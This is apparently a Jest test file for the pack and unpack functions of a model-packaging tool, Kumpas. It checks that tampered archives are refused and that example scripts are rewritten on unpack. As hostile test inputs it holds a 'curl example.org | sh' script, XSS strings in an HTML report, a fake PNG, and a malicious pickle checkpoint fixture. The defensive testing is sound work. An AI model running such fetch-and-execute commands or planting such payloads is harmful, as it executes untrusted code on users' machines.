import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from '@jest/globals';
import { version } from '../../package.json';
import { messageOf } from '../../src/foundation/errors';
import { exampleFiles, parseManifest } from '../../src/zoo/pack/manifest';
import { contentKind, isPacked } from '../../src/zoo/pack/pack-contents';
import { packModel } from '../../src/zoo/pack/pack-model';
import { unpackModel, verify } from '../../src/zoo/pack/unpack-model';
import { inTemporaryFolder } from '../support/clip-files';
import { goodFiles, NAME, packOf, tarOf, type ManifestText } from '../support/pack-by-hand';
import { torchFolder } from '../support/parity';
import { addModel, contentOf, findingsOf, snapshotOf } from '../support/small-registry';

/** Writes a pack whose manifest is true to what is in it. */
function writePack(file: string, files: ReadonlyMap<string, Uint8Array>, change?: (manifest: ManifestText) => void): void {
  writeFileSync(file, gzipSync(tarOf(packOf(files, change)), { level: 1 }));
}

const fixture = (name: string): Buffer => readFileSync(path.join(torchFolder, name));
const OWN_EXAMPLES = exampleFiles({
  name: NAME,
  model: 'transformer',
  checkpoint: 'SignTransformer_best.pt',
  architecture: 'SignTransformer',
});

describe('a pack whose checksums are all right', () => {
  it('is refused with files that pack does not write, and every one of them is named', async () => {
    await inTemporaryFolder(async (folder) => {
      const files = await goodFiles(folder);
      const file = path.join(folder, 'foreign.tar.gz');
      const foreign = [
        'run.sh',
        'extra.py',
        'notes.txt',
        'SignTransformer.pt',
        'weights/SignTransformer_best.pt',
        'examples/weights.pt',
        'examples/install.sh',
        'evaluation_results/SignTransformer_best.pt',
        'evaluation_results/report.js',
        'releases/latest/SignTransformer_production.pt',
        'releases/v1.0.0/deep/SignTransformer_production.pt',
        'SignTransformer_best.pt.py',
      ];
      const wellMade = fixture('tiny_full.pt');
      writePack(file, new Map([...files, ...foreign.map((inner): [string, Buffer] => [inner, wellMade])]));
      const before = snapshotOf(path.join(folder, 'registry'));
      const named = [...foreign.slice(0, 10).map((inner) => inner.replaceAll('.', '\\.')), 'and 2 more'].join('(, | )');
      const message = new RegExp(`holds files that pack does not write: ${named}; nothing was written`);
      await expect(verify(folder, file)).rejects.toThrow(message);
      await expect(unpackModel(file, path.join(folder, 'target'), undefined)).rejects.toThrow(message);
      expect(snapshotOf(path.join(folder, 'target'))).toEqual([]);
      expect(snapshotOf(path.join(folder, 'registry'))).toEqual(before);
      for (const inner of foreign) expect([inner, contentKind(inner)]).toEqual([inner, undefined]);
    });
  });

  it('is refused where a file is not what its name says', async () => {
    await inTemporaryFolder(async (folder) => {
      const files = await goodFiles(folder);
      const file = path.join(folder, 'foreign.tar.gz');
      const picture = readFileSync(path.resolve(__dirname, '../fixtures/pictures/frame_1.png'));
      const refused: readonly (readonly [string, Uint8Array | string, RegExp])[] = [
        ['README.md', 'a\u001b[2Jb', /README\.md: line 1 holds a control character/],
        ['README.md', Buffer.from([0xff, 0xfe, 0x41]), /README\.md: it is no text in UTF-8/],
        ['training_log.txt', '#!/bin/sh\necho hello\n', /training_log\.txt: expected the columns epoch/],
        ['metrics.jsonl', '{"epoch":1}\necho hello\n{"epoch":2}\n', /metrics\.jsonl: line 2 is no epoch's figures/],
        ['performance_history.png', 'MZ\u0090', /performance_history\.png: it is no PNG picture/],
        ['performance_history.png', Buffer.concat([picture, Buffer.from('PK')]), /performance_history\.png: it is no PNG picture/],
        ['performance_history.png', picture.subarray(0, picture.length - 4), /performance_history\.png: it is no PNG picture/],
        ['evaluation_results/report.html', '<script>alert(1)</script>', /report\.html: it holds a script that Kumpas did not write/],
        ['evaluation_results/report.html', '<img src="//x" onerror="alert(1)">', /report\.html: its <img> has/],
        ['evaluation_results/evaluation.json', '{"model":1}', /evaluation\.json: model/],
        ['releases/v1.0.0/release.json', '{}', /releases\/v1\.0\.0\/release\.json: version/],
        ['production.json', '{}', /production\.json: dtype/],
        ['releases/v1.0.0/x.pt', fixture('iv3_gru_features_only.pt'), /v1\.0\.0\/x\.pt: it holds iv3_gru, config\.json says transformer/],
        ['SignTransformer_production.pt', 'PK no checkpoint', /SignTransformer_production\.pt: /],
        ['SignTransformer_last.pt', fixture('bad_malicious_os_system.pt'), /SignTransformer_last\.pt: .*system/],
      ];
      const paths = new Set(refused.map(([inner]) => inner));
      // Each pack holds one wrong file under every path that is left, and the refusal names them all.
      for (let round = 0, left = [...paths]; left.length > 0; round++) {
        const wrong = left.flatMap((inner) => refused.filter(([place]) => place === inner).slice(round, round + 1));
        left = wrong.map(([inner]) => inner);
        writePack(file, new Map([...files, ...wrong.map(([inner, content]): [string, Buffer] => [inner, Buffer.from(content)])]));
        if (wrong.length === 0) continue;
        const refusal = await unpackModel(file, path.join(folder, 'target'), undefined).catch(messageOf);
        for (const [, , message] of wrong) expect(refusal).toMatch(message);
        await expect(verify(folder, file)).rejects.toThrow(/it is refused, and nothing was written/);
      }
      expect(snapshotOf(path.join(folder, 'target'))).toEqual([]);
      writePack(file, new Map([...files, ['performance_history.png', picture]]));
      expect((await verify(folder, file)).findings).toHaveLength(0);
    });
  });

  it('brings no examples: they are written anew, whatever it holds and whoever wrote it', async () => {
    await inTemporaryFolder(async (folder) => {
      const files = await goodFiles(folder);
      const file = path.join(folder, 'changed.tar.gz');
      const evil = Buffer.from('#!/bin/sh\ncurl example.org | sh\n');
      const changed = new Map([...files, ['examples/load_in_kumpas.sh', evil] as const]);
      changed.delete('examples/load_in_pytorch.py');
      writePack(file, changed);
      const told = (await verify(folder, file)).findings.map(({ severity, place }) => `${severity} ${place}`);
      expect(told).toEqual(['remark examples/load_in_pytorch.py', 'remark examples/load_in_kumpas.sh']);
      writePack(file, changed, (manifest) => Object.assign(manifest, { kumpas: version }));
      expect((await verify(folder, file)).findings.map(({ severity, what }) => `${severity} ${what}`)).toEqual(
        Array(2).fill('problem it is not what Kumpas writes: it was changed'),
      );

      const root = path.join(folder, 'elsewhere');
      const { folder: unpacked, writtenAnew } = await unpackModel(file, root, undefined);
      expect(writtenAnew).toEqual(['examples/load_in_pytorch.py', 'examples/load_in_kumpas.sh']);
      for (const [inner, text] of OWN_EXAMPLES) expect(readFileSync(path.join(unpacked, inner), 'utf8')).toBe(text);
      const manifest = parseManifest(readFileSync(path.join(unpacked, 'manifest.json'), 'utf8'), '');
      expect(manifest.files).toEqual(contentOf(unpacked).filter((found) => found.path !== 'manifest.json'));
      expect((await verify(root, NAME)).findings).toEqual([]);
      expect(await findingsOf(root)).toEqual([]);
    });
  });
});

describe('pack', () => {
  it('writes nothing that unpack would refuse', async () => {
    await inTemporaryFolder(async (folder) => {
      const model = await addModel(folder, 'odd');
      const out = path.join(folder, 'x.tar.gz');
      writeFileSync(path.join(model.folder, 'performance_history.png'), 'no picture');
      const packing = packModel({ model, out, withLast: false, kumpas: '0.0.0' });
      await expect(packing).rejects.toThrow(/performance_history\.png: it is not packed: it is no PNG picture/);
      expect(snapshotOf(out)).toEqual([]);
    });
  });

  it('takes the files that Kumpas writes into a model folder, and those of the last state where it is asked to', () => {
    const always = ['README.md', 'config.json', 'a_best.pt', 'evaluation_results/report.html', 'releases/v1.2.3/release.json'];
    const last = ['a_last.pt', 'evaluation_results_a_last/predictions.csv'];
    const never = [
      '.a_best.pt',
      'examples/load_in_kumpas.sh',
      'manifest.json',
      'readme.md',
      'evaluation_results/.x',
      'releases/v1.2/release.json',
    ];
    expect(always.map((inner) => isPacked(inner, false))).toEqual(always.map(() => true));
    expect(last.map((inner) => [isPacked(inner, false), isPacked(inner, true)])).toEqual(last.map(() => [false, true]));
    expect(never.map((inner) => isPacked(inner, true))).toEqual(never.map(() => false));
  });
});
